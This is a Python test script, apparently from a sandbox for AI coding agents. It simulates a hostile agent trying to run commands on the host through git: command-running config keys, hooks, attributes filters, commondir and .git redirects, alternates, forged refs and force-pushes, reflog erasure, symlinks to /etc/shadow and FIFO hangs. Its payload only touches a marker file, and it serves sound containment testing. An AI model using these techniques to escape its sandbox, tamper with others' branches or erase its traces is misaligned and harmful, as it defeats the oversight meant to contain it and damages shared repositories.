"""The attacks as a hostile agent runs them inside its own sandbox.

The host never imports this file: `conftest.Team.attack` sends its source to `python3 -c` in a
sandbox, as the sandbox's user, with the attack's name and a JSON object of parameters. Every
attack discovers where things are from inside (`git rev-parse`, /proc/self/mountinfo, a walk of
the whole file system), so the same script runs against any layout. It prints one JSON object:
what it wrote, what was refused, and the output of every push. A planted command writes the
host path `mark`; the host checks that this file never appears.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import stat
import subprocess
import sys
from typing import Any

WORKSPACE = "/workspace"
PRUNED = ("/proc", "/sys", "/dev")
HOOKS = (
    "applypatch-msg", "pre-applypatch", "post-applypatch", "pre-commit", "pre-merge-commit",
    "prepare-commit-msg", "commit-msg", "post-commit", "pre-rebase", "post-checkout",
    "post-merge", "pre-push", "pre-receive", "update", "proc-receive", "post-receive",
    "post-update", "reference-transaction", "push-to-checkout", "pre-auto-gc", "post-rewrite",
    "sendemail-validate", "fsmonitor-watchman", "p4-pre-submit", "post-index-change",
)  # fmt: skip
ATTRIBUTES = "* filter=evil diff=evil merge=evil\n"

report: dict[str, Any] = {"written": [], "refused": [], "pushes": [], "notes": []}


def run(*argv: str, cwd: str = WORKSPACE) -> subprocess.CompletedProcess[str]:
    return subprocess.run(argv, cwd=cwd, capture_output=True, text=True, check=False)


def git(*args: str, cwd: str = WORKSPACE) -> str:
    done = run("git", *args, cwd=cwd)
    return done.stdout.strip() if done.returncode == 0 else ""


def planted(mark: str) -> str:
    """A shell command that proves it ran on the host by creating `mark` there."""
    return f"touch {mark} 2>/dev/null; :"


# --- where things are ----------------------------------------------------------------------


def mounts() -> list[dict[str, str]]:
    found = []
    with open("/proc/self/mountinfo", encoding="utf-8") as info:
        for line in info:
            fields = line.split()
            unescape = lambda s: s.encode().decode("unicode_escape")  # noqa: E731
            found.append(
                {
                    "device": fields[2],
                    "root": unescape(fields[3]),
                    "point": unescape(fields[4]),
                    "options": fields[5],
                    "fstype": fields[fields.index("-") + 1],
                }
            )
    return found


def aliases(path: str) -> list[str]:
    """`path` and every other path in this sandbox that shows the same file (bind mounts)."""
    path = os.path.realpath(path)
    table = mounts()
    holder = max(
        (m for m in table if path == m["point"] or path.startswith(m["point"].rstrip("/") + "/")),
        key=lambda m: len(m["point"]),
    )
    rest = path[len(holder["point"]) :].lstrip("/")
    same = [
        m["point"] for m in table if m["device"] == holder["device"] and m["root"] == holder["root"]
    ]
    return sorted({os.path.join(point, rest) if rest else point for point in same})


def host_alias(path: str) -> str:
    """A spelling of `path` that may also mean something on the host: one outside /workspace
    (a mount at the host's own path) when there is one."""
    outside = [p for p in aliases(path) if not p.startswith(WORKSPACE)]
    return outside[0] if outside else os.path.realpath(path)


_walked: list[tuple[str, os.stat_result]] = []


def walk() -> list[tuple[str, os.stat_result]]:
    """Every path in the sandbox but /proc, /sys and /dev, with its lstat; symlinks not
    followed, mounts crossed."""
    if _walked:
        return _walked
    for top, dirs, files in os.walk("/", onerror=lambda _: None):
        if top == "/":
            dirs[:] = [d for d in dirs if "/" + d not in PRUNED]
        for name in dirs + files:
            path = os.path.join(top, name)
            with contextlib.suppress(OSError):
                _walked.append((path, os.lstat(path)))
    return _walked


def git_dirs() -> list[str]:
    """Every git directory this agent can see: its own, the common one, any other found."""
    found = []
    for option in ("--absolute-git-dir", "--git-common-dir"):
        out = git("rev-parse", "--path-format=absolute", option)
        if out:
            found.append(os.path.realpath(out))
    for path, st in walk():
        if stat.S_ISREG(st.st_mode) and os.path.basename(path) == "HEAD":
            folder = os.path.dirname(path)
            if os.path.isdir(os.path.join(folder, "refs")) or os.path.isfile(
                os.path.join(folder, "commondir")
            ):
                found.append(os.path.realpath(folder))
    return list(dict.fromkeys(found))


def writable(path: str) -> bool:
    if os.path.lexists(path):
        return os.access(path, os.W_OK)
    parent = os.path.dirname(path)
    return os.path.isdir(parent) and os.access(parent, os.W_OK)


def writable_git_dirs() -> list[str]:
    return [d for d in git_dirs() if os.access(d, os.W_OK)]


def config_files() -> list[str]:
    """Every git config file the agent might get read: its repositories', its global ones and
    whatever else is called config under a .git folder and writable."""
    home = os.path.expanduser("~")
    found = [os.path.join(home, ".gitconfig"), os.path.join(home, ".config", "git", "config")]
    for folder in git_dirs():
        found += [os.path.join(folder, "config"), os.path.join(folder, "config.worktree")]
    for path, st in walk():
        name = os.path.basename(path)
        if (
            name in ("config", "config.worktree")
            and ".git" in path
            and stat.S_ISREG(st.st_mode)
            and os.access(path, os.W_OK)
        ):
            found.append(path)
    return [p for p in dict.fromkeys(found) if writable(p)]


def write(path: str, text: str, mode: int | None = None) -> bool:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w", encoding="utf-8") as out:
            out.write(text)
        if mode is not None:
            os.chmod(path, mode)
    except OSError as error:
        report["refused"].append(f"{path}: {error.strerror}")
        return False
    report["written"].append(path)
    return True


def set_config(path: str, settings: dict[str, str]) -> None:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    for key, value in settings.items():
        done = run("git", "config", "--file", path, "--replace-all", key, value)
        if done.returncode != 0:
            report["refused"].append(f"{path} {key}: {done.stderr.strip()[-200:]}")
            return
    report["written"].append(path)


def symlink(target: str, link: str) -> None:
    try:
        if os.path.lexists(link):
            os.unlink(link)
        os.symlink(target, link)
        report["written"].append(f"{link} -> {target}")
    except OSError as error:
        report["refused"].append(f"{link}: {error.strerror}")


# --- the agent's own git -----------------------------------------------------------------


def has_origin() -> bool:
    return bool(git("remote", "get-url", "origin"))


def forge(message: str = "forged") -> str:
    """A commit object of the agent's (on top of its HEAD when it has one), referenced by
    nothing yet."""
    identity = ["-c", "user.name=forger", "-c", "user.email=forger@invalid"]
    parent = ["-p", "HEAD"] if git("rev-parse", "--verify", "--quiet", "HEAD") else []
    tree = git("write-tree") or git("mktree")
    forged = git(*identity, "commit-tree", tree, *parent, "-m", message)
    report["forged"] = forged
    if not forged:
        raise SystemExit(f"cannot forge a commit: {run('git', 'status').stderr}")
    return forged


def push(*refspecs: str, force: bool = False) -> None:
    if not has_origin():
        report["pushes"].append({"refspecs": refspecs, "status": None, "output": "no origin"})
        return
    argv = ["git", "push", *(["--force"] if force else []), "origin", *refspecs]
    done = run(*argv)
    report["pushes"].append(
        {"refspecs": refspecs, "status": done.returncode, "output": done.stdout + done.stderr}
    )


def commit(name: str, text: str, message: str) -> str:
    """Commit one file on the agent's branch (the shim publishes it, where there is one)."""
    path = os.path.join(WORKSPACE, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "a", encoding="utf-8") as out:
        out.write(text)
    run("git", "add", "--", name)
    done = run("git", "commit", "--quiet", "--no-verify", "-m", message)
    if done.returncode != 0:
        report["notes"].append(f"commit failed: {done.stdout}{done.stderr}"[-500:])
    head = git("rev-parse", "HEAD")
    report["head"] = head
    return head


# --- the attacks ---------------------------------------------------------------------------


def command_settings(mark: str) -> dict[str, str]:
    """Every git setting that runs a command, set to the planted one."""
    cmd = planted(mark)
    hooks = host_alias(make_hooks(os.path.join(WORKSPACE, ".evil-hooks"), mark))
    attributes = os.path.join(WORKSPACE, ".evil-attributes")
    write(attributes, ATTRIBUTES)
    return {
        "core.fsmonitor": cmd,
        "core.hooksPath": hooks,
        "core.sshCommand": cmd,
        "core.gitProxy": cmd,
        "core.askPass": cmd,
        "core.editor": cmd,
        "core.pager": f"touch {mark} 2>/dev/null; cat",
        "core.attributesFile": host_alias(attributes),
        "core.alternateRefsCommand": cmd,
        "sequence.editor": cmd,
        "diff.external": cmd,
        "diff.evil.command": cmd,
        "diff.evil.textconv": cmd,
        "filter.evil.clean": f"touch {mark} 2>/dev/null; cat",
        "filter.evil.smudge": f"touch {mark} 2>/dev/null; cat",
        "merge.evil.driver": cmd,
        "credential.helper": f"!{cmd}",
        "gpg.program": cmd,
        "uploadpack.packObjectsHook": cmd,
        "pager.log": f"touch {mark} 2>/dev/null; cat",
        "pager.status": f"touch {mark} 2>/dev/null; cat",
        "protocol.allow": "always",
        "protocol.ext.allow": "always",
        "submodule.recurse": "true",
        "status.submoduleSummary": "true",
        "remote.origin.uploadpack": cmd,
        "remote.origin.receivepack": cmd,
    }


def make_hooks(folder: str, mark: str) -> str:
    for name in HOOKS:
        write(os.path.join(folder, name), f"#!/bin/sh\ntouch {mark} 2>/dev/null\nexit 0\n", 0o755)
    return folder


def attack_config_commands(p: dict[str, Any]) -> None:
    """core.fsmonitor, core.hooksPath, core.sshCommand, diff.external, filter.* and the rest,
    in every config file the agent can write, plus an include of a config of its own."""
    settings = command_settings(p["mark"])
    include = os.path.join(WORKSPACE, ".evil-include")
    set_config(include, settings)
    for path in config_files():
        set_config(path, {**settings, "include.path": host_alias(include)})
    commit(f"work/config-{os.getpid()}.txt", "config\n", "work")


def attack_info_attributes(p: dict[str, Any]) -> None:
    """A filter, diff and merge driver for every path: info/attributes in every writable git
    dir, the drivers in every config, and a committed .gitattributes."""
    settings = {
        k: v
        for k, v in command_settings(p["mark"]).items()
        if k.split(".")[0] in ("filter", "diff", "merge")
    }
    for path in config_files():
        set_config(path, settings)
    for folder in writable_git_dirs():
        write(os.path.join(folder, "info", "attributes"), ATTRIBUTES)
    write(os.path.join(WORKSPACE, ".gitattributes"), ATTRIBUTES)
    run("git", "add", ".gitattributes")
    commit("work/attributes.txt", "filtered\n", "attributes for every path")


def attack_alternates(p: dict[str, Any]) -> None:
    """objects/info/alternates (and http-alternates) in every writable git dir, pointing at an
    object store of the agent's."""
    store = os.path.join(WORKSPACE, ".evil-objects")
    os.makedirs(os.path.join(store, "info"), exist_ok=True)
    run("git", "init", "--quiet", "--bare", os.path.join(WORKSPACE, ".evil-store"))
    for folder in writable_git_dirs():
        objects = os.path.join(folder, "objects")
        lines = [host_alias(store), os.path.relpath(host_alias(store), host_alias(objects))]
        write(os.path.join(objects, "info", "alternates"), "\n".join(lines) + "\n")
        write(os.path.join(objects, "info", "http-alternates"), "http://127.0.0.1:9/x\n")
    commit("work/alternates.txt", "alternates\n", "work")


def attack_packed_refs(p: dict[str, Any]) -> None:
    """The start branch, another agent's branch and a tag forged in every packed-refs the agent
    can write (their loose refs removed so that the packed ones count), then pushed."""
    forged = forge()
    targets = [
        f"refs/heads/{p['start']}",
        f"refs/heads/agent/{p['other']}",
        f"refs/tags/{p['tag']}",
    ]
    files = [os.path.join(d, "packed-refs") for d in git_dirs()]
    files += [path for path, _ in walk() if os.path.basename(path) == "packed-refs"]
    for path in dict.fromkeys(files):
        if not writable(path):
            report["refused"].append(f"{path}: not writable")
            continue
        lines = []
        if os.path.exists(path):
            with open(path, encoding="utf-8") as old:
                lines = [x for x in old.read().splitlines() if x.split(" ")[-1] not in targets]
        body = [x for x in lines if not x.startswith(("#", "^"))]
        body += [f"{forged} {target}" for target in targets]
        body.sort(key=lambda line: line.split(" ")[-1])
        write(path, "# pack-refs with: sorted \n" + "\n".join(body) + "\n")
        for target in targets:
            loose = os.path.join(os.path.dirname(path), target)
            try:
                os.unlink(loose)
                report["written"].append(f"removed {loose}")
            except OSError:
                pass
    for target in targets:
        push(f"{forged}:{target}", force=True)


def attack_update_ref(p: dict[str, Any]) -> None:
    """`git update-ref` (or -d) of a ref that is not the agent's, in every repository it can
    reach, then pushed."""
    ref, delete = p["ref"], p.get("delete", False)
    forged = forge()
    for folder in writable_git_dirs():
        argv = ["git", f"--git-dir={folder}", "update-ref"]
        done = run(*argv, *(["-d", ref] if delete else [ref, forged]))
        (report["written"] if done.returncode == 0 else report["refused"]).append(
            f"{folder}: update-ref {ref}: {done.stderr.strip()[-200:]}"
        )
    push(f":{ref}" if delete else f"{forged}:{ref}", force=True)


def attack_reflog_deletion(p: dict[str, Any]) -> None:
    """Erase the traces: expire every reflog and remove every logs folder it can write."""

    for folder in writable_git_dirs():
        run("git", f"--git-dir={folder}", "reflog", "expire", "--expire=now", "--all")
        for logs in [os.path.join(folder, "logs")] + [
            os.path.join(folder, "worktrees", w, "logs")
            for w in (
                os.listdir(os.path.join(folder, "worktrees"))
                if os.path.isdir(os.path.join(folder, "worktrees"))
                else []
            )
        ]:
            if os.path.isdir(logs):
                shutil.rmtree(logs, ignore_errors=True)
                report["written"].append(
                    f"removed {logs}" if not os.path.exists(logs) else f"kept {logs}"
                )


def attack_symlinks(p: dict[str, Any]) -> None:
    """Symlinks at the project's .git (by its host path, relative, and the git dir found from
    inside) and at host files, committed on the agent's branch."""
    project_git = os.path.join(p["project"], ".git")
    here = host_alias(WORKSPACE)
    links = {
        "link-project-git": project_git,
        "link-project-config": os.path.join(project_git, "config"),
        "link-project-hooks": os.path.join(project_git, "hooks"),
        "link-relative-git": os.path.relpath(project_git, here),
        "link-common-dir": git("rev-parse", "--path-format=absolute", "--git-common-dir"),
        "link-passwd": "/etc/passwd",
        "link-shadow": "/etc/shadow",
    }
    for name, target in links.items():
        symlink(target, os.path.join(WORKSPACE, name))
        run("git", "add", "--", name)
    commit("work/symlinks.txt", "symlinks\n", "symlinks")


def attack_hooks(p: dict[str, Any]) -> None:
    """Hooks in every hooks folder of every git dir the agent can write, then a commit."""
    folders = [os.path.join(d, "hooks") for d in writable_git_dirs()]
    folders += [
        path
        for path, st in walk()
        if os.path.basename(path) == "hooks" and ".git" in path and stat.S_ISDIR(st.st_mode)
    ]
    for folder in dict.fromkeys(folders):
        if writable(folder):
            make_hooks(folder, p["mark"])
        else:
            report["refused"].append(f"{folder}: not writable")
    commit("work/hooks.txt", "hooks\n", "work")


def attack_gitmodules(p: dict[str, Any]) -> None:
    """A .gitmodules whose URL is a command, with the gitlink for it, committed."""
    head = git("rev-parse", "HEAD")
    text = (
        f'[submodule "evil"]\n\tpath = evil\n\turl = {p["url"]}\n\tupdate = !{planted(p["mark"])}\n'
    )
    write(os.path.join(WORKSPACE, ".gitmodules"), text)
    run("git", "add", ".gitmodules")
    run("git", "update-index", "--add", "--cacheinfo", f"160000,{head},evil")
    commit("work/gitmodules.txt", "submodule\n", "add a submodule")


def attack_commondir(p: dict[str, Any]) -> None:
    """`commondir` in every writable git dir pointed at a folder of the agent's: everything
    there links back to the real repository except `config`, which sets core.fsmonitor."""
    for number, folder in enumerate(writable_git_dirs()):
        evil = os.path.join(WORKSPACE, f".evil-common-{number}")
        os.makedirs(evil, exist_ok=True)
        real = host_alias(folder)
        for name in os.listdir(folder):
            if name not in ("config", "commondir", "HEAD", "index", "gitdir"):
                symlink(
                    os.path.relpath(os.path.join(real, name), host_alias(evil)),
                    os.path.join(evil, name),
                )
        config = os.path.join(evil, "config")
        try:
            with open(os.path.join(folder, "config"), encoding="utf-8") as original:
                write(config, original.read())
        except OSError:
            write(config, "[core]\n\trepositoryformatversion = 0\n")
        set_config(config, command_settings(p["mark"]))
        write(os.path.join(folder, "commondir"), os.path.relpath(host_alias(evil), real) + "\n")
    commit("work/commondir.txt", "commondir\n", "work")


def attack_dot_git_redirect(p: dict[str, Any]) -> None:
    """The worktree's `.git` replaced by a `gitdir:` file naming a git dir of the agent's whose
    config sets core.fsmonitor (a host-side git in the worktree would read it)."""

    dot_git = os.path.join(WORKSPACE, ".git")
    evil = os.path.join(WORKSPACE, ".evil-gitdir")
    if os.path.isdir(dot_git) and not os.path.islink(dot_git):
        os.rename(dot_git, evil)
    else:
        shutil.copy(
            dot_git, os.path.join(WORKSPACE, ".evil-dot-git-was")
        )  # a linked worktree: a standalone git dir linking to the real objects and refs
        real = git("rev-parse", "--path-format=absolute", "--git-common-dir")
        own = git("rev-parse", "--absolute-git-dir")
        os.makedirs(evil, exist_ok=True)
        for name in os.listdir(real):
            if name not in ("config", "commondir", "HEAD", "index", "worktrees"):
                symlink(
                    os.path.relpath(os.path.join(host_alias(real), name), host_alias(evil)),
                    os.path.join(evil, name),
                )
        for name in ("HEAD", "index"):
            if os.path.exists(os.path.join(own, name)):
                shutil.copy(os.path.join(own, name), os.path.join(evil, name))
        shutil.copy(os.path.join(real, "config"), os.path.join(evil, "config"))
        os.unlink(dot_git)
    set_config(os.path.join(evil, "config"), command_settings(p["mark"]))
    write(dot_git, "gitdir: .evil-gitdir\n")
    commit("work/dot-git.txt", "dot git\n", "work")


def attack_undo_dot_git_redirect(p: dict[str, Any]) -> None:
    """Put back what attack_dot_git_redirect changed (so that the agent can work on)."""
    dot_git = os.path.join(WORKSPACE, ".git")
    evil = os.path.join(WORKSPACE, ".evil-gitdir")
    saved = os.path.join(WORKSPACE, ".evil-dot-git-was")
    if os.path.isfile(saved):
        os.replace(saved, dot_git)
    elif os.path.isdir(evil) and os.path.isfile(dot_git):
        os.unlink(dot_git)
        os.rename(evil, dot_git)


def attack_planted_repository(p: dict[str, Any]) -> None:
    """A repository of the agent's own in `plans/` of its folder, a spec beside it for the
    operator to plan: every command setting, and a HEAD whose commit is missing from a partial
    clone, so that a git looking it up fetches it through the planted core.sshCommand."""
    folder = os.path.join(WORKSPACE, "plans")
    run("git", "init", "-q", folder)
    git_dir = os.path.join(folder, ".git")
    set_config(
        os.path.join(git_dir, "config"),
        {
            **command_settings(p["mark"]),
            "core.repositoryformatversion": "1",
            "extensions.partialClone": "origin",
            "remote.origin.url": "ssh://agentvisor.invalid/plans.git",
            "remote.origin.promisor": "true",
        },
    )
    write(os.path.join(git_dir, "HEAD"), "ref: refs/heads/main\n")
    write(os.path.join(git_dir, "refs", "heads", "main"), "1" * 40 + "\n")
    write(
        os.path.join(folder, "next.md"),
        "# Next\n\nBuild a small command line tool that prints the weather, with tests.\n",
    )


def attack_undo_planted_repository(p: dict[str, Any]) -> None:
    shutil.rmtree(os.path.join(WORKSPACE, "plans"), ignore_errors=True)


def attack_fifos(p: dict[str, Any]) -> None:
    """FIFOs where git reads a file of the agent's repository: whoever opens one waits for
    ever (a DoS on host commands that read the clone)."""
    git_dir = git("rev-parse", "--absolute-git-dir")
    for name in ("objects/info/alternates", "info/attributes", "info/exclude", "shallow"):
        path = os.path.join(git_dir, name)
        with contextlib.suppress(FileNotFoundError):
            os.replace(path, path + ".evil-saved")
        os.makedirs(os.path.dirname(path), exist_ok=True)
        os.mkfifo(path)
        report["written"].append(f"fifo {path}")
    os.mkfifo(os.path.join(WORKSPACE, "untracked-fifo"))


def attack_undo_fifos(p: dict[str, Any]) -> None:
    git_dir = git("rev-parse", "--absolute-git-dir")
    fifos = ["objects/info/alternates", "info/attributes", "info/exclude", "shallow"]
    for path in [os.path.join(git_dir, name) for name in fifos]:
        with contextlib.suppress(OSError):  # release whoever waits on it (the shim's git)
            os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
        with contextlib.suppress(FileNotFoundError):
            os.unlink(path)
        with contextlib.suppress(FileNotFoundError):
            os.replace(path + ".evil-saved", path)
    with contextlib.suppress(FileNotFoundError):
        os.unlink(os.path.join(WORKSPACE, "untracked-fifo"))


def attack_force_push(p: dict[str, Any]) -> None:
    """Rewrite the agent's own published branch: drop its last commit, commit another one and
    force-push it."""
    branch = git("branch", "--show-current")
    done = run("git", "reset", "--quiet", "--hard", "HEAD~1")
    if done.returncode != 0:
        report["notes"].append(f"reset failed: {done.stderr}")
    commit("work/rewritten.txt", "rewritten\n", "rewritten history")
    push(f"HEAD:refs/heads/{branch}", force=True)


def probe_project_git(p: dict[str, Any]) -> None:
    """Every path in the sandbox that is a file of the project's .git (same device and inode),
    whether it is writable, and every mount whose source is in the project's .git."""
    wanted = set(p["inodes"])
    hits = []
    for path, st in walk():
        if f"{st.st_dev}:{st.st_ino}" in wanted:
            hits.append({"path": path, "writable": os.access(path, os.W_OK), "links": st.st_nlink})
    report["hits"] = hits
    git_dir = os.path.join(p["project"], ".git")
    report["mounts"] = [
        m
        for m in mounts()
        if m["root"] == git_dir
        or m["root"].startswith(git_dir + "/")
        or m["point"] == git_dir
        or m["point"].startswith(git_dir + "/")
    ]
    report["writable_git_files"] = [
        path
        for path, st in walk()
        if "/.git/" in path
        and not stat.S_ISLNK(st.st_mode)
        and os.access(path, os.W_OK)
        and not path.startswith(WORKSPACE + "/")
    ][:50]


ATTACKS = {
    name.removeprefix("attack_"): fn
    for name, fn in globals().items()
    if name.startswith(("attack_", "probe_"))
}


if __name__ == "__main__":
    ATTACKS[sys.argv[1]](json.loads(sys.argv[2]))
    print(json.dumps(report))
